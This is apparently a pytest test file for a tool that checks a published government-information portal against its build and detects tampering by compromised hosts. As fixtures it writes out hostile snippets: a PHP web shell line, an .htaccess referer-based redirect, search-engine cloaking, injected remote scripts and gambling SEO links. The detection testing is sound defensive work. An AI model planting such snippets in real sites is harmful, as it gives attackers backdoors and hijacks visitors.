"""A portal on a server of the test's own, tampered with in the ways that compromised servers are."""

import gzip
import socket
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from pathlib import Path

import orjson
import pytest

from ppidgen.cli.network.published_site import DOOR, Manners, PublishedSite
from ppidgen.diagnostics import MachineFault
from ppidgen.publish.comparison import Difference, differences
from tests.cli.conftest import Run
from tests.cli.tampered_host import FILES, Host, Reply
from tests.portals.laying import lay

QUICK = Manners(patience=5, tries=2, pause=0)
SLOT = b'<div><a href="https://slot.example/gacor">slot</a></div>'


@pytest.fixture
def host() -> Iterator[Host]:
    made = Host()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def built(tmp_path: Path) -> Path:
    return lay(tmp_path / "built", FILES)


@pytest.fixture
def compared(host: Host, built: Path, tmp_path: Path) -> Callable[..., tuple[Difference, ...]]:
    def compare(*left_out: str) -> tuple[Difference, ...]:
        site = PublishedSite(host.address, str(tmp_path / "copy"), QUICK)
        site.manifest()
        return site.compared(str(built), left_out, lambda *_: None)

    return compare


Compared = Callable[..., tuple[Difference, ...]]


def told(found: tuple[Difference, ...]) -> list[tuple[str, str, list[str], str]]:
    return [
        (one.path, one.change.value, [f"{kind}: {value}" for kind, value in one.brought], one.seen_by) for one in found
    ]


def test_a_portal_served_as_it_was_built_is_equal_although_the_host_keeps_its_settings(
    compared: Compared, host: Host
) -> None:
    assert compared() == ()
    assert "/dip/" in host.asked
    assert "/dip/index.html" not in host.asked


def test_a_hidden_link_for_gambling_in_one_page_is_named(compared: Compared, host: Host) -> None:
    host.files["dip/a/index.html"] += SLOT
    assert told(compared()) == [("dip/a/index.html", "changed", ["link: https://slot.example/gacor"], "")]


@pytest.mark.parametrize(("target", "count"), [("/dip/a/", 0), ("/dip/", 1)])
def test_an_old_address_may_lead_where_its_page_points_and_nowhere_else(
    compared: Compared, host: Host, built: Path, target: str, count: int
) -> None:
    (built / "lama").mkdir()
    (built / "lama/index.html").write_bytes(b'<!doctype html><a href="/dip/a/">Pindah</a>')
    (built / "_redirects").write_bytes(b"/lama/ /dip/a/ 301\n")
    host.change = lambda path, _headers: (301, b"", {"Location": target}) if path == "/lama/" else None
    assert [one.path for one in compared()] == ["lama/index.html"] * count


def test_pages_that_only_search_engines_are_shown_are_found(compared: Compared, host: Host) -> None:
    def cloak(path: str, headers: Mapping[str, str]) -> Reply | None:
        return (200, SLOT, {}) if path == "/" and "Googlebot" in headers["User-Agent"] else None

    host.change = cloak
    assert told(compared()) == [("index.html", "changed", ["link: https://slot.example/gacor"], "engine")]


def test_visitors_from_a_search_engine_who_are_led_away_are_noticed(compared: Compared, host: Host) -> None:
    def lead(_path: str, headers: Mapping[str, str]) -> Reply | None:
        return (302, b"", {"Location": "https://slot.example/"}) if headers["Referer"] else None

    host.change = lead
    assert told(compared())[0] == ("index.html", "changed", ["redirect: https://slot.example/"], "visitor")


def test_a_header_that_leads_browsers_away_from_an_untouched_page_is_noticed(compared: Compared, host: Host) -> None:
    away = {"Refresh": "0; url=https://slot.example/"}
    host.change = lambda path, _headers: (200, FILES["index.html"], away) if path == "/" else None
    assert told(compared())[0] == ("index.html", "changed", ["redirect: 0; url=https://slot.example/"], "")


@pytest.mark.parametrize(
    ("name", "said"),
    [("X-Robots-Tag", "googlebot: noindex, nofollow"), ("Link", '<https://slot.example/gacor>; rel="canonical"')],
)
@pytest.mark.parametrize("seen_by", ["", "engine"])
def test_a_header_that_hides_a_page_or_gives_its_rank_away_is_named(
    compared: Compared, host: Host, name: str, said: str, seen_by: str
) -> None:
    def head(path: str, headers: Mapping[str, str]) -> Reply | None:
        is_shown = path == "/dip/" and (not seen_by or "Googlebot" in headers["User-Agent"])
        return (200, FILES["dip/index.html"], {name: said}) if is_shown else None

    host.change = head
    assert told(compared()) == [("dip/index.html", "changed", [f"answer: {name}: {said}"], seen_by)]


def test_headers_that_say_of_a_page_what_it_is_raise_no_alarm(compared: Compared, host: Host) -> None:
    links = f'</aset/a.css>; rel=preload; as=style, <{host.address}dip/>; rel="canonical"'
    headers = {"X-Robots-Tag": "all, max-snippet:-1", "Link": links}
    host.change = lambda path, _headers: (200, FILES["dip/index.html"], headers) if path == "/dip/" else None
    assert compared() == ()


@pytest.mark.parametrize("status", [203, 404, 410])
def test_a_page_that_is_another_one_for_visitors_is_found_whatever_its_status(
    compared: Compared, host: Host, status: int
) -> None:
    """A browser runs what comes with "not found" just as well."""
    host.change = lambda path, headers: (status, SLOT, {}) if path == "/dip/" and headers["Referer"] else None
    brought = [f"answer: {status}", "link: https://slot.example/gacor"]
    assert told(compared()) == [("dip/index.html", "changed", brought, "visitor")]


def test_a_door_that_opens_to_search_engines_alone_is_found(compared: Compared, host: Host) -> None:
    host.change = lambda path, headers: (
        (200, SLOT, {}) if "slot" in path and "Googlebot" in headers["User-Agent"] else None
    )
    assert told(compared()) == [(f"{DOOR}index.html", "added", ["link: https://slot.example/gacor"], "engine")]


def test_an_engine_that_is_turned_away_proves_nothing(compared: Compared, host: Host) -> None:
    host.change = lambda _path, headers: (403, b"", {}) if "Googlebot" in headers["User-Agent"] else None
    assert compared() == ()


def test_added_pages_are_followed_from_changed_ones_and_from_the_sitemap(compared: Compared, host: Host) -> None:
    host.files["index.html"] += b'<a href="/promo/">x</a>'
    host.files["promo/index.html"] = b'<a href="lagi.php?id=1">x</a>' + SLOT
    host.files["sitemap.xml"] = FILES["sitemap.xml"].replace(
        b"</urlset>", f"<url><loc>{host.address}dari-peta/</loc></url></urlset>".encode()
    )
    host.files["dari-peta/index.html"] = b"<script>x()</script>"
    host.change = lambda path, _headers: (200, SLOT, {}) if path == "/promo/lagi.php" else None
    found = {one.path: one for one in compared()}
    assert set(found) == {"index.html", "sitemap.xml", "promo/index.html", "promo/lagi.php", "dari-peta/index.html"}
    assert found["promo/lagi.php"].brought == (("link", "https://slot.example/gacor"),)
    assert found["dari-peta/index.html"].brought == (("script", "x()"),)


def test_what_the_servers_own_list_names_is_looked_at(compared: Compared, host: Host) -> None:
    host.files["manifes.json"] = orjson.dumps({"dibuat_oleh": "ppidgen", "berkas": {"wp/x.php": ["", 1], "../y": 1}})
    host.files["wp/x.php"] = b"<?php ?>"
    assert [one[:2] for one in told(compared())] == [("manifes.json", "changed"), ("wp/x.php", "added")]


def test_a_server_that_answers_addresses_of_gambling_is_found(compared: Compared, host: Host) -> None:
    host.change = lambda path, _headers: (200, SLOT, {}) if "slot" in path else None
    assert told(compared()) == [(f"{DOOR}index.html", "added", ["link: https://slot.example/gacor"], "")]


def test_files_gone_refused_or_led_away_are_told_apart(compared: Compared, host: Host) -> None:
    del host.files["dip/a/index.html"]
    replies: dict[str, Reply] = {
        "/sitemap.xml": (403, b"", {}),
        "/dip/": (302, b"", {"Location": "https://slot.example/"}),
    }
    host.change = lambda path, _headers: replies.get(path)
    assert told(compared()) == [
        ("dip/a/index.html", "missing", [], ""),
        ("dip/index.html", "changed", ["redirect: https://slot.example/"], ""),
        ("sitemap.xml", "unread", ["answer: 403"], ""),
    ]


def test_a_busy_server_is_asked_again(compared: Compared, host: Host) -> None:
    busy = iter([True, True])
    host.change = lambda path, _headers: (503, b"", {}) if path == "/dip/" and next(busy, False) else None
    assert ("dip/index.html", "unread", ["answer: 503"], "") in told(compared())
    busy = iter([True])
    assert compared() == ()


def test_a_packed_copy_that_says_something_else_is_found_for_browsers_are_given_it(
    compared: Compared, host: Host
) -> None:
    def given(path: str, headers: Mapping[str, str]) -> Reply | None:
        is_packed = path == "/dip/a/" and "gzip" in headers["Accept-Encoding"]
        return (200, gzip.compress(SLOT), {"Content-Encoding": "gzip"}) if is_packed else None

    host.change = given
    assert told(compared()) == [("dip/a/index.html", "changed", ["link: https://slot.example/gacor"], "")]


def test_packing_on_the_way_and_a_redirect_on_the_same_host_change_nothing(compared: Compared, host: Host) -> None:
    replies: dict[str, Reply] = {
        "/": (200, gzip.compress(FILES["index.html"]), {"Content-Encoding": "gzip"}),
        "/404.html": (308, b"", {"Location": "/404"}),
        "/404": (200, FILES["404.html"], {}),
    }
    host.change = lambda path, _headers: replies.get(path)
    assert compared() == ()


def test_what_is_left_out_is_not_asked_for(compared: Compared, host: Host) -> None:
    host.files["berkas/a b.pdf"] = b"lain"
    assert compared("berkas/*") == ()
    assert not any(path.startswith("/berkas") for path in host.asked)


SEO = b'<p style="position:absolute;left:-9999px">situs slot gacor maxwin</p>'
REWRITE = b"Options -Indexes\nRewriteCond %{HTTP_REFERER} google\nRewriteRule .* https://slot.example/ [R]\n"
MORE: Mapping[str, bytes] = {
    "aset/cari.js": b"cari()", "aset/huruf.woff2": b"wOF2huruf", "sw.js": b"self.addEventListener('fetch',x)",
    "data/dip.csv": b"a,b\r\n",
}  # fmt: skip
# What is done to a site: path and new content (None: none), what is told of it, and whether it is seen from outside.
INJECTIONS: Mapping[str, tuple[str, bytes, str, list[str], bool]] = {
    "link": ("dip/index.html", FILES["dip/index.html"] + SLOT, "changed", ["link: https://slot.example/gacor"], True),
    "hidden words": ("dip/a/index.html", FILES["dip/a/index.html"] + SEO, "changed", ["other: style="], True),
    "script": ("index.html", FILES["index.html"] + b"<script src=//x.example/a.js></script>", "changed",
        ["script: //x.example/a.js"], True),
    "redirect by meta": ("index.html", b'<meta http-equiv="Refresh" content="0;url=//x.example">', "changed",
        ["other: 0;url=//x.example"], True),
    "settings of the host": (".htaccess", REWRITE, "changed",
        ["other: RewriteCond %{HTTP_REFERER} google", "other: RewriteRule .* https://slot.example/ [R]"], False),
    "service worker": ("sw.js", MORE["sw.js"] + b";importScripts('//x.example/a.js')", "changed", [], True),
    "folder of its own": ("slot-gacor/index.html", b"<!doctype html>" + SLOT, "added",
        ["link: https://slot.example/gacor"], True),
    "font": ("aset/huruf.woff2", b"wOF2jahat", "changed", [], True),
    "program of a page": ("aset/cari.js", b"cari();x()", "changed", [], True),
    "document": ("berkas/a b.pdf", FILES["berkas/a b.pdf"][:-9] + b"slot.fun\n", "changed", [], True),
    "list of the site": ("manifes.json", FILES["manifes.json"].replace(b"{}", b'{"a":["",1]}'), "changed", [], True),
    "name that looks alike": ("dip/\u0456ndex.html", FILES["dip/index.html"] + SLOT, "added",
        ["link: /", "link: https://slot.example/gacor"], False),
    "program of the server": ("wp-content/x.php", b"<?php eval($_POST[0]);", "added", [], False),
}  # fmt: skip


@pytest.mark.parametrize("name", INJECTIONS)
def test_each_kind_of_injection_is_told_with_its_place(
    compared: Compared, host: Host, built: Path, tmp_path: Path, name: str
) -> None:
    path, content, change, brought, from_outside = INJECTIONS[name]
    lay(built, MORE)
    host.files |= {**MORE, path: content}
    lay(tmp_path / "server", host.files)
    assert [one[:2] for one in told(differences(str(built), str(tmp_path / "server")))] == [(path, change)]
    (one,) = differences(str(built), str(tmp_path / "server"))
    said = [f"{kind}: {value}" for kind, value in one.brought]
    assert len(said) == len(brought)
    assert all(told_.startswith(wanted) for told_, wanted in zip(said, brought, strict=True))
    seen = told(compared())
    assert [one[:3] for one in seen if not one[3]] == ([(path, change, said)] if from_outside else [])


def test_an_honest_host_raises_no_alarm(compared: Compared, host: Host, built: Path) -> None:
    """One that packs, adds headers, names the type of each file and stands behind another that keeps copies."""

    def pack(path: str, headers: Mapping[str, str]) -> Reply | None:
        name = path.removeprefix("/") or "index.html"
        if name not in host.files or "gzip" not in headers["Accept-Encoding"]:
            return None
        more = {"Server": "cloudflare", "CF-Ray": "1", "Age": "9", "Set-Cookie": "a=b", "ETag": 'W/"1"'}
        return 200, gzip.compress(host.files[name]), {"Content-Encoding": "gzip", **more}

    lay(built, MORE)
    host.files |= MORE
    host.change = pack
    assert compared() == ()


def test_a_site_uploaded_as_text_is_told_from_one_that_was_changed(compared: Compared, host: Host, built: Path) -> None:
    lay(built, {"dip/index.html": b"<p>a</p>\n<p>b</p>\n", "berkas/a.bin": b"a\nb\n"})
    host.files |= {"dip/index.html": b"<p>a</p>\r\n<p>b</p>\r\n", "berkas/a.bin": b"a\r\nb\r\n"}
    assert told(compared()) == [("berkas/a.bin", "changed", [], ""), ("dip/index.html", "line-ends", [], "")]


def test_pages_far_from_the_front_are_asked_for_in_guise_too(compared: Compared, host: Host, built: Path) -> None:
    many = {f"informasi/u/e{one:03}/index.html": b"<p>x</p>" for one in range(30)}
    lay(built, many)
    host.files |= many
    host.change = lambda path, headers: (
        (200, SLOT, {}) if "/informasi/" in path and "Googlebot" in headers["User-Agent"] else None
    )
    assert len([one for one in compared() if one.seen_by == "engine"]) > 15


def test_a_server_that_fills_every_file_up_does_not_fill_the_disk(
    compared: Compared, host: Host, built: Path, tmp_path: Path
) -> None:
    pages = {f"{number}/index.html": b"<!doctype html>A" for number in range(40)}
    lay(built, pages)
    host.files |= {path: page + b" " * 4_900_000 for path, page in pages.items()}
    assert {path for path, change, _, _ in told(compared()) if change == "changed"} == set(pages)
    kept = sum(file.stat().st_size for file in (tmp_path / "copy").rglob("*") if file.is_file())
    assert kept < 130_000_000


def test_a_server_that_does_not_answer_is_no_equal_portal(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    site = PublishedSite(f"http://127.0.0.1:{port}/", str(tmp_path / "copy"), QUICK)
    with pytest.raises(MachineFault) as caught:
        site.manifest()
    assert caught.value.code == "MSN060"


@pytest.mark.slow
def test_a_server_that_hands_out_a_file_in_drops_holds_nobody(tmp_path: Path) -> None:
    def drip(server: socket.socket) -> None:
        visitor, _ = server.accept()
        with visitor, suppress(OSError):
            visitor.recv(4_096)
            visitor.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n")
            while True:
                visitor.sendall(b"x")
                time.sleep(0.01)

    with socket.create_server(("127.0.0.1", 0)) as server:
        host = threading.Thread(target=drip, args=(server,), daemon=True)
        host.start()
        hurried = Manners(patience=0.3, tries=1, pause=0)
        site = PublishedSite(f"http://127.0.0.1:{server.getsockname()[1]}/", str(tmp_path / "copy"), hurried)
        assert site.fetch("index.html").status == 0
        host.join()
    assert not (tmp_path / "copy").exists()


@pytest.mark.slow
def test_the_verb_compares_with_an_address(run: Run, sound: Path, host: Host, tmp_path: Path) -> None:
    out = tmp_path / "terbit"
    assert run("build", sound, "--out", out, "--no-search", "--as-of", "2026-01-31").returncode == 0
    host.files = {path.relative_to(out).as_posix(): path.read_bytes() for path in out.rglob("*") if path.is_file()}
    host.files["index.html"] += SLOT
    shown = run("verify", sound, "--against", host.address.rstrip("/"), "--no-search")
    assert shown.returncode == 1
    assert shown.stdout.splitlines() == [
        "diubah      index.html",
        "            + tautan: https://slot.example/gacor",
        "",
        "1 berkas tidak seperti hasil registernya (per 2026-01-31).",
    ]
    assert "tidak terlihat dari luar" in shown.stderr
